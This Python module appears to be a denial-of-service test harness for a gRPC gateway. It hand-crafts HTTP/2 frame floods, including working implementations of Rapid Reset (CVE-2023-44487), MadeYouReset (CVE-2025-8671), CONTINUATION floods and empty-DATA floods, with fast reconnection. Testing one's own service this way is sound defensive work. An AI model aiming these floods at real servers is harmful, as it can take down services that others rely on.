"""Floods of HTTP/2 frames, written by hand: gRPC's clients cannot send them.

Each is as fast as a network of 1 Gbit/s. On loopback, where nothing limits senders, gRPC reads ahead.
"""

import asyncio
import contextlib
import socket
import struct
import threading
import time
from collections.abc import Callable
from typing import Final

from security.counts import Counts
from testkit.http2 import ACK, END_HEADERS, Connection, frame, header_block

_WINDOW_UPDATE: Final = 0x8
_PRIORITY: Final = 0x2
_UNKNOWN: Final = 0xFA
_PING, _SETTINGS, _RST_STREAM, _HEADERS, _CONTINUATION, _DATA = 0x6, 0x4, 0x3, 0x1, 0x9, 0x0
_BATCH: Final = 2_000
_BYTES_PER_S: Final = 125_000_000
_CANCEL: Final = struct.pack(">I", 8)
_INFO: Final = "/liveavatar.gateway.v1.SessionService/GetServerInfo"


async def window_updates(address: str, seconds: float) -> Counts:
    """Send WINDOW_UPDATE without end; it needs no answer."""
    piece = frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * _BATCH
    return await _flood(address, seconds, lambda _: piece)


async def unknown_frames(address: str, seconds: float) -> Counts:
    """Send frames of a type that nobody knows, which have to be ignored."""
    piece = frame(_UNKNOWN, 0, 0, b"12345678") * _BATCH
    return await _flood(address, seconds, lambda _: piece)


async def empty_unknown_frames(address: str, seconds: float) -> Counts:
    """Send unknown frames without a payload, the smallest that there are."""
    piece = frame(_UNKNOWN, 0, 0, b"") * _BATCH
    return await _flood(address, seconds, lambda _: piece)


async def priorities(address: str, seconds: float) -> Counts:
    """Send PRIORITY for streams that were never opened."""
    piece = b"".join(frame(_PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, 16)) for n in range(_BATCH))
    return await _flood(address, seconds, lambda _: piece)


async def pings(address: str, seconds: float) -> Counts:
    """Send PING without end; each one asks for an answer."""
    piece = frame(_PING, 0, 0, b"12345678") * _BATCH
    return await _flood(address, seconds, lambda _: piece)


async def ping_acks(address: str, seconds: float) -> Counts:
    """Answer pings that nobody sent."""
    piece = frame(_PING, ACK, 0, b"12345678") * _BATCH
    return await _flood(address, seconds, lambda _: piece)


async def settings(address: str, seconds: float) -> Counts:
    """Send SETTINGS without end, with another window each time; each one asks for an answer."""
    piece = b"".join(frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + n % 2)) for n in range(_BATCH))
    return await _flood(address, seconds, lambda _: piece)


async def resets_of_nothing(address: str, seconds: float) -> Counts:
    """Reset a stream that is closed already, again and again."""
    opening = frame(_HEADERS, END_HEADERS, 1, header_block(_INFO))
    return await _flood(address, seconds, _after(opening, frame(_RST_STREAM, 0, 1, _CANCEL) * _BATCH))


async def rapid_reset(address: str, seconds: float) -> Counts:
    """Open calls and reset each at once (CVE-2023-44487)."""
    opening = header_block(_INFO)

    def piece(first: int) -> bytes:
        return b"".join(
            frame(_HEADERS, END_HEADERS, stream, opening) + frame(_RST_STREAM, 0, stream, _CANCEL)
            for stream in range(first, first + 2 * 500, 2)
        )

    return await _flood(address, seconds, piece, streams=500)


async def made_you_reset(address: str, seconds: float) -> Counts:
    """Open calls and make the gateway reset each, by a window increment of zero (CVE-2025-8671)."""
    opening = header_block(_INFO)

    def piece(first: int) -> bytes:
        return b"".join(
            frame(_HEADERS, END_HEADERS, stream, opening) + frame(_WINDOW_UPDATE, 0, stream, bytes(4))
            for stream in range(first, first + 2 * 500, 2)
        )

    return await _flood(address, seconds, piece, streams=500)


async def continuations(address: str, seconds: float) -> Counts:
    """Send one header block that never ends (CVE-2024-27316)."""
    opening = frame(_HEADERS, 0, 1, header_block(_INFO))
    return await _flood(address, seconds, _after(opening, frame(_CONTINUATION, 0, 1, b"") * _BATCH))


async def empty_data(address: str, seconds: float) -> Counts:
    """Send DATA without content into an open call (CVE-2019-9518)."""
    opening = frame(_HEADERS, END_HEADERS, 1, header_block(_INFO))
    return await _flood(address, seconds, _after(opening, frame(_DATA, 0, 1, b"") * _BATCH))


async def refused_calls(address: str, seconds: float) -> Counts:
    """Open calls of methods that do not exist, as fast as they are refused."""
    opening = header_block("/liveavatar.gateway.v1.SessionService/Nothing")

    def piece(first: int) -> bytes:
        return b"".join(
            frame(_HEADERS, END_HEADERS | 0x1, stream, opening) for stream in range(first, first + 2 * 200, 2)
        )

    return await _flood(address, seconds, piece, streams=200)


def _after(opening: bytes, more: bytes) -> Callable[[int], bytes]:
    """Return pieces that begin with an opening on each new connection."""
    return lambda stream: opening + more if stream == 1 else more


async def _flood(address: str, seconds: float, piece: Callable[[int], bytes], *, streams: int = 1) -> Counts:
    """Send pieces on one connection as fast as it takes them; again on a new one when it is closed.

    Args:
        address: Gateway.
        seconds: Time to go on.
        piece: Returns the next bytes, for the given first stream.
        streams: Streams that a piece uses.
    """
    return await asyncio.to_thread(_flood_until, address, time.monotonic() + seconds, piece, streams)


def _flood_until(address: str, until_s: float, piece: Callable[[int], bytes], streams: int) -> Counts:
    counts = Counts()
    began_s, sent_bytes = time.monotonic(), 0
    while time.monotonic() < until_s:
        try:
            with Connection(address) as connection:
                reader = threading.Thread(target=_discard, args=(connection.socket,), daemon=True)
                reader.start()
                connection.socket.settimeout(0.5)
                stream = 1
                while time.monotonic() < until_s and stream < 2**31 - 2 * streams:
                    pending = memoryview(piece(stream))
                    stream += 2 * streams
                    counts.sent += 1
                    while pending and time.monotonic() < until_s:
                        with contextlib.suppress(TimeoutError):
                            done = connection.socket.send(pending)
                            pending = pending[done:]
                            sent_bytes += done
                    time.sleep(max(0.0, began_s + sent_bytes / _BYTES_PER_S - time.monotonic()))
        except OSError:
            counts.outcomes["closed"] += 1
            # What attackers do: they come again at once, which is a connection each.
            time.sleep(0.05)
    if not counts.outcomes:
        counts.outcomes["taken"] = counts.sent
    return counts


def _discard(connection: socket.socket) -> None:
    while True:
        try:
            if not connection.recv(65_536):
                return
        except TimeoutError:
            continue
        except OSError:
            return
